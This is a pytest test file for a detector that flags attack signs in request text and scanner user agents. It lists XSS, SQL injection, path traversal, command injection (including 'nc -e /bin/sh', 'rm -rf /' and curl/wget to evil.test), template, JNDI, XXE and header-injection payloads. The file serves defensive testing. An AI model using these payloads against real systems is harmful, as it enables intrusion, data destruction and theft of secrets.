"""Signs of an attack are told by their kind and their place; what people write by chance is none."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from greenroom.gateway.suspicion import KINDS, MOST_TEXT, Text, attack_tool, signs_in

ATTACKS = {
    "script": [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.test>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '"><body onpageshow = alert(1)>',
        "<iframe src=//evil.test>",
        "javascript:alert(document.domain)",
        "data:text/html,<b>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "x = document.cookie",
    ],
    "sql": [
        "' OR '1'='1",
        "' or 1=1--",
        "admin'--",
        "x') and 1=1 --",
        '" or "a"="a',
        "1' UNION SELECT null, version()--",
        "union/**/all select 1,2,3",
        "x'; DROP TABLE users;--",
        "1; WAITFOR DELAY '0:0:5'",
        "1 and sleep(5)",
        "(select table_name from information_schema.tables)",
        "'; EXEC xp_cmdshell('dir')",
        "%27%20or%201=1",
    ],
    "traversal": [
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "..%2f..%2fetc%2fpasswd",
        "%2e%2e/%2e%2e/",
        "%252e%252e%252f",
        "/etc/passwd",
        "file:///etc/hosts",
        "php://filter/convert.base64-encode/resource=index",
        "/.env",
        "/.git/config",
    ],
    "command": [
        "; cat /etc/passwd",
        "x; rm -rf /",
        "x | nc -e /bin/sh",
        "a && whoami",
        "$(curl http://evil.test)",
        "`id`",
        "x;wget http://evil.test/a",
        "() { :; }; echo",
        "c:\\x\\cmd.exe /c dir",
    ],
    "template": [
        "{{7*7}}",
        "{{ config['SECRET'] }}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "''.__class__.__mro__",
        "{{request|attr('x')}}",
    ],
    "jndi": [
        "${jndi:ldap://evil.test/a}",
        "${${lower:j}ndi:rmi://evil.test/a}",
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${lower:j}",
        "%24%7Bjndi:dns://evil.test%7D",
    ],
    "xml": ['<!DOCTYPE foo [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "<!entity x>"],
    "header": ["x\r\nSet-Cookie: a=b", "x\nContent-Length: 0", "x%0d%0aLocation:", "a%250d%250ab"],
    "null_byte": ["a\x00.png", "a%00.png"],
}
CASES = [(kind, text) for kind, texts in ATTACKS.items() for text in texts]

HARMLESS = [
    "Sinéad O'Brien and Conan O'Neill",
    "SELECT the songs; drop by -- at 5",
    "rock 'n' roll, 'til late; and more",
    "He said 'yes' or 'no' -- we never knew",
    "The '#1' hit -- 'Nothing Compares 2 U'",
    "The union will select the speakers; a union select committee meets",
    "Please update the table; delete nothing from the list, insert a break",
    "Drop table decorations; drop the mic",
    "Stage is 8 x 6 m (26' x 19'); doors 18:00 -> 23:00",
    "a < b > c, <3, :-), ->, <- and 5 > 3",
    "<Olympia>, hall 2/3, Paris; entrance... door 4/5 ..",
    "Talk: JavaScript: The Good Parts, and data: text analysis",
    "Budget: $5,000 (=4,600 €) & travel; 50% now, 50% later",
    "US$(5000) or {negotiable}",
    "Dear {{first_name}}, welcome",
    "Contact: ann@example.com; https://example.com/?a=1&b=2#top",
    "bring cats; cat toys too; ls: the list; id cards please",
    "sleep (8 hours) before the show, sleep well",
    "Songs:\r\nlocation: Berlin\r\nTo: everybody\nHost: Ann",
    "Say `hello` to the fans",
    "file names: set.pdf; env. friendly; /env and etc/passport",
    "100% sure, 20%off, 5%20",
    "if x or y = z then… 'a' and b",
    "It's OK; or is it?",
    "日本語のテキスト、そして العربية",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "curl/8.5.0",
    "https://booking.test/celebrities/zoe?from=2027-01-01&to=2027-01-31",
    "off_00000000000000000000000000501",
    "America/Argentina/Buenos_Aires",
    "2027-03-05T19:00:00+01:00",
]


def body(*texts: str) -> list[Text]:
    return [Text("body", f"f{number}", text) for number, text in enumerate(texts)]


@pytest.mark.parametrize(("kind", "text"), CASES, ids=[f"{kind} {n}" for n, (kind, _) in enumerate(CASES)])
def test_an_attack_is_known_by_its_kind_wherever_it_stands(kind: str, text: str) -> None:
    for around in (text, f"We look forward, {text}", f"{text} and more"):
        assert kind in {sign.kind for sign in signs_in(body(around))}, around


def test_every_kind_is_tried() -> None:
    assert set(ATTACKS) == set(KINDS)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_people_write_is_no_sign_of_anything(text: str) -> None:
    assert signs_in(body(text)) == []


def test_harmless_texts_side_by_side_make_no_sign_together() -> None:
    assert signs_in(body(*HARMLESS)) == []
    assert signs_in(body("..", "/etc", "' or", "1=1", "x", "set-cookie: a")) == []


def test_each_kind_is_told_once_with_its_first_place() -> None:
    found = signs_in(
        [
            Text("query", "q", "fine"),
            Text("body", "brief", "<script>"),
            Text("body", "venue", "<script> ../../"),
            Text("header", "referer", "../"),
        ]
    )

    assert found == [("script", "body", "brief"), ("traversal", "body", "venue")]


TOKENS = [
    *(character for character in "<>'\"`$&|;%(){}[]#.,:=_-*/\\ \n\r\t"),
    *"or and 1=1 union select sleep( onload= /**/ ${ {{ <a jndi cat ../ %27 -- set-cookie".split(),
]


@settings(deadline=None, max_examples=60)
@given(
    st.lists(st.sampled_from(TOKENS), min_size=1, max_size=4), st.lists(st.sampled_from(TOKENS), max_size=2)
)
def test_no_repetition_makes_the_search_slow(repeated: list[str], after: list[str]) -> None:
    unit = "".join(repeated)
    text = unit * (MOST_TEXT // len(unit)) + "".join(after)
    started = time.process_time()

    signs_in(body(text))

    # A search that doubles with each character, or squares, would take seconds at this length.
    assert time.process_time() - started < 1


@pytest.mark.parametrize(
    "unit",
    [
        "<a ",
        "<a on",
        "'or ",
        "' ) or a",
        "union/**/",
        "union ",
        "${",
        "{{",
        "{{a",
        "; cat ",
        "`id",
        "()",
        "%25",
        "(",
    ],
)
def test_twice_the_text_takes_about_twice_the_time(unit: str) -> None:
    def taken(length: int) -> float:
        text = body(unit * (length // len(unit)))
        times = []
        for _ in range(7):
            started = time.process_time()
            signs_in(text)
            times.append(time.process_time() - started)
        return min(times)

    # Eight times the text: eight times the work, not sixty-four. What is below a millisecond proves nothing.
    assert taken(MOST_TEXT) < 24 * taken(MOST_TEXT // 8) + 0.002


def test_what_lies_behind_the_bound_is_not_looked_at() -> None:
    assert signs_in(body("a" * (MOST_TEXT - 9) + "<script>")) != []
    assert signs_in(body("a" * MOST_TEXT + "<script>")) == []
    assert signs_in(body("%" * 500_000)) == []


@given(st.text(max_size=300))
def test_no_text_whatever_breaks_the_search(text: str) -> None:
    assert all(sign.kind in KINDS for sign in signs_in(body(text, "\ud800", text[::-1])))


@pytest.mark.parametrize(
    ("user_agent", "tool"),
    [
        ("sqlmap/1.8#stable (https://sqlmap.org)", "sqlmap"),
        ("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", "nikto"),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)", "nmap scripting engine"),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "nuclei"),
        ("Fuzz Faster U Fool v2.1.0-dev ffuf", "ffuf"),
        ("gobuster/3.6", "gobuster"),
        ("WPScan v3.8", "wpscan"),
        ("Mozilla/5.0 zgrab/0.x", "zgrab"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/133.0", None),
        ("python-requests/2.32", None),
        ("curl/8.5.0", None),
        ("", None),
        ("x" * 1000 + "sqlmap", None),
    ],
)
def test_a_tool_that_says_its_name_is_known_by_it(user_agent: str, tool: str | None) -> None:
    assert attack_tool(user_agent) == tool
